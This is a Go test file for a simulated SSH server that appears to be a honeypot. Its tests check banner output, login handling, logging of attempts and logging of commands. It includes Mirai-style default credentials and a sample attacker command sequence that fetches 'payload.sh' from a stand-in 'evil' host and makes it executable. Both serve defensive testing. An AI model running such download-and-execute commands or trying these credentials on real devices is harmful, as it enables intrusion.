package ssh

import (
	"strings"
	"testing"
	"time"

	"openhire/internal/netsim"
)

// startServer dials one session; events returns what the server has logged
// so far.
func startServer(t *testing.T, cfg Config) (*netsim.ServiceConn, func() []Event) {
	t.Helper()
	var events []Event
	prev := cfg.OnEvent
	cfg.OnEvent = func(ev Event) {
		if prev != nil {
			prev(ev)
		}
		events = append(events, ev)
	}
	client := netsim.Converse(NewServer(cfg).NewStepper(), netsim.MustParseIPv4("192.0.2.90"),
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.5"), Port: 22}, time.Now())
	t.Cleanup(func() { client.Close() })
	return client, func() []Event { return events }
}

func TestGrabBanner(t *testing.T) {
	client, _ := startServer(t, Config{Version: "SSH-2.0-OpenSSH_5.1p1 Debian-5"})
	banner, err := GrabBanner(client)
	if err != nil {
		t.Fatal(err)
	}
	if banner != "SSH-2.0-OpenSSH_5.1p1 Debian-5" {
		t.Fatalf("banner %q", banner)
	}
}

func TestLoginAcceptAll(t *testing.T) {
	client, events := startServer(t, Config{AcceptAll: true})
	if _, err := GrabBanner(client); err != nil {
		t.Fatal(err)
	}
	ok, err := Login(client, "SSH-2.0-Go", "root", "xc3511")
	if err != nil || !ok {
		t.Fatalf("Login = %v, %v", ok, err)
	}
	client.Close()
	evs := events()
	if len(evs) == 0 {
		t.Fatal("no event")
	}
	ev := evs[0]
	if !ev.Success || len(ev.Attempts) != 1 || ev.Attempts[0] != (Credential{"root", "xc3511"}) {
		t.Fatalf("event %+v", ev)
	}
	if ev.ClientVersion != "SSH-2.0-Go" {
		t.Fatalf("client version %q", ev.ClientVersion)
	}
}

func TestLoginRejectedAttemptsLogged(t *testing.T) {
	client, events := startServer(t, Config{MaxAttempts: 3})
	if _, err := GrabBanner(client); err != nil {
		t.Fatal(err)
	}
	ok, err := Login(client, "SSH-2.0-bot", "admin", "admin")
	if err != nil || ok {
		t.Fatalf("Login = %v, %v", ok, err)
	}
	for _, cred := range []Credential{{"root", "root"}, {"user", "user"}} {
		if ok, _ := Attempt(client, cred.Username, cred.Password); ok {
			t.Fatal("attempt accepted")
		}
	}
	evs := events()
	if len(evs) == 0 {
		t.Fatal("server did not close after max attempts")
	}
	ev := evs[0]
	if ev.Success || len(ev.Attempts) != 3 {
		t.Fatalf("event %+v", ev)
	}
}

func TestCredentialMap(t *testing.T) {
	client, _ := startServer(t, Config{Credentials: map[string]string{"pi": "raspberry"}})
	if _, err := GrabBanner(client); err != nil {
		t.Fatal(err)
	}
	if ok, _ := Login(client, "SSH-2.0-x", "pi", "wrong"); ok {
		t.Fatal("wrong password accepted")
	}
	if ok, _ := Attempt(client, "pi", "raspberry"); !ok {
		t.Fatal("correct password rejected")
	}
}

func TestCommandsLogged(t *testing.T) {
	client, events := startServer(t, Config{AcceptAll: true})
	if _, err := GrabBanner(client); err != nil {
		t.Fatal(err)
	}
	if ok, _ := Login(client, "SSH-2.0-mirai", "admin", "admin"); !ok {
		t.Fatal("login rejected")
	}
	for _, cmd := range []string{"wget http://evil/payload.sh", "chmod +x payload.sh", "exit"} {
		if _, err := client.Write([]byte(cmd + "\n")); err != nil {
			t.Fatal(err)
		}
	}
	evs := events()
	if len(evs) == 0 {
		t.Fatal("no event")
	}
	ev := evs[0]
	if len(ev.Commands) != 3 || !strings.HasPrefix(ev.Commands[0], "wget ") {
		t.Fatalf("commands %v", ev.Commands)
	}
}

func TestNonSSHClientGetsBannerOnly(t *testing.T) {
	client, events := startServer(t, Config{})
	if _, err := client.Write([]byte("GET / HTTP/1.1\r\n")); err != nil {
		t.Fatal(err)
	}
	evs := events()
	if len(evs) == 0 {
		t.Fatal("session did not end")
	}
	ev := evs[0]
	if ev.Success || len(ev.Attempts) != 0 {
		t.Fatalf("event %+v", ev)
	}
}
